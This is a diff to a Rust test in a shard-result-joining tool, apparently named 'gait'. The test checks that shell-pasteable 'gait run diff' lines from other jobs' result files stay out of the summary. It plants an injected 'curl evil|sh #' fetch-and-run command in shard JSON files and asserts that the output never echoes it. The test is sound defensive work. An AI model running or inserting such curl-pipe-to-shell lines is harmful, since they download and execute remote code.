@@ -222,7 +222,18 @@ fn results_of_shards_are_joined() {
     runner.set("candidate-dir", "");
     let step = runner.run().code(5);
     assert_eq!((step.output("passed"), step.output("failed")), ("1", "1"));
-    assert_eq!(step.summary, whole);
+    // What could be pasted into a shell is not taken from files of other jobs.
+    let pasted =
+        |text: &str| text.lines().filter(|line| !line.starts_with("gait run diff ")).collect::<Vec<_>>().join("\n");
+    assert!(whole.contains("gait run diff ") && !step.summary.contains("gait run diff "));
+    assert_eq!(step.summary.trim(), pasted(&whole).trim());
+    for part in ["parts/1/regress_core_result.json", "parts/2/regress_core_result.json"] {
+        let text = runner.text(part);
+        let evil = text.replace("gait run diff", "curl evil|sh #").replace("GAIT run_id", "sh evil run_id");
+        runner.file(part, evil);
+    }
+    let told = runner.run().code(5);
+    assert!(!told.summary.contains("evil") && !told.stdout.contains("evil"), "{}", told.summary);
     fs::remove_dir_all(runner.path("parts/1")).unwrap();
     runner.run().code(6).says(&["1 of 2 shards are missing: 1/2"]);
 }
